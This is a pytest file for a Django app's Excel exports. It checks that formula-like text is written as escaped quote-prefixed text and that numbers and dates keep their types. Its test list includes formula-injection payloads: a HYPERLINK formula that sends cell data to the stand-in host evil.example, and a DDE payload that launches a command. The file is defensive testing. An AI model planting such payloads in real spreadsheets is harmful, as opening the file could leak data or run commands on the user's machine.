"""What we hand out in Excel never runs: a text that begins like a formula (=, +, -, @, tab,
carriage return) is written as quote-prefixed text in every export, and numbers and dates
stay numbers and dates."""

import datetime
import io
import zipfile
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from django.conf import settings
from django.urls import reverse
from openpyxl import load_workbook

from core.excel import build_workbook
from tests.factories import PersonFactory, SchoolFactory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+86 138 0000 0000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def client(client):
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
    return client


def cells(content: bytes):
    wb = load_workbook(io.BytesIO(content))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def assert_no_formula(content: bytes):
    """No cell is a formula: neither as openpyxl reads it nor in the sheets' XML."""
    assert [c.coordinate for c in cells(content) if c.data_type == "f"] == []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name


def assert_escaped(content: bytes, texts):
    by_value = {c.value: c for c in cells(content) if isinstance(c.value, str)}
    for text in texts:
        cell = by_value[text]  # the text is kept exactly, with no visible apostrophe
        assert cell.data_type == "s" and cell.quotePrefix, text


def test_formula_like_text_is_written_as_quote_prefixed_text():
    content = build_workbook("名单", ["姓名", "备注"], [[text, "正常文字"] for text in HOSTILE])
    assert_no_formula(content)
    assert_escaped(content, HOSTILE)
    plain = next(c for c in cells(content) if c.value == "正常文字")
    assert plain.data_type == "s" and not plain.quotePrefix


def test_numbers_and_dates_stay_numbers_and_dates():
    tz = ZoneInfo(settings.TIME_ZONE)
    row = [-5, -2.5, Decimal("-1.25"), 0, datetime.date(2026, 9, 7),
           datetime.datetime(2026, 9, 7, 7, 25, tzinfo=tz), datetime.time(7, 25), None]
    content = build_workbook("数字", [str(i) for i in range(len(row))], [row])
    second = [c for c in cells(content) if c.row == 2]
    assert [c.value for c in second[:4]] == [-5, -2.5, -1.25, 0]
    assert [c.data_type for c in second[:4]] == ["n"] * 4
    assert not any(c.quotePrefix for c in second)
    assert [c.data_type for c in second[4:7]] == ["d"] * 3
    assert second[5].value == datetime.datetime(2026, 9, 7, 7, 25)


def test_error_words_and_control_characters_stay_harmless_text():
    content = build_workbook("杂项", ["a", "b"], [["#N/A", "张\x0b三\x01"]])
    values = {c.value: c.data_type for c in cells(content) if c.row == 2}
    assert values == {"#N/A": "s", "张三": "s"}


def test_the_list_exports_escape_names_and_contacts(cast, client):
    person = PersonFactory(name=HOSTILE[0], unit=cast.station_a, phone="+8613800000000")
    SchoolFactory(name="@学校", station=cast.station_a, contact_name=HOSTILE[1], address="-2+3")
    client.force_login(cast.alice)
    people = client.get(reverse("org:person_list"), {"export": "xlsx"})
    assert people.status_code == 200
    assert_no_formula(people.content)
    assert_escaped(people.content, [person.name, "+8613800000000"])
    schools = client.get(reverse("posts:school_list"), {"export": "xlsx"})
    assert_no_formula(schools.content)
    assert_escaped(schools.content, ["@学校", HOSTILE[1], "-2+3"])


def test_the_roster_export_escapes_school_and_post_names(cast, client):
    cast.school_a.name = "=1+1"
    cast.school_a.save()
    cast.post_a.name = "-侧门"
    cast.post_a.save()
    client.force_login(cast.alice)
    response = client.get(reverse("duty:roster_export"), {"station": cast.station_a.pk, "week": "2026-09-07"})
    assert response.status_code == 200
    assert_no_formula(response.content)
    assert_escaped(response.content, ["=1+1", "-侧门"])


def test_no_module_but_core_excel_writes_a_workbook():
    """Every export goes through core.excel.build_workbook, where cells are escaped."""
    root = Path(settings.BASE_DIR)
    packages = [p.parent for p in root.glob("*/apps.py")] + [root / "huxue"]
    offenders = []
    for package in set(packages):
        for path in package.rglob("*.py"):
            if path == root / "core" / "excel.py" or "migrations" in path.parts:
                continue
            text = path.read_text(encoding="utf-8")
            if "openpyxl" in text or "xlsxwriter" in text:
                offenders.append(str(path.relative_to(root)))
    assert offenders == []
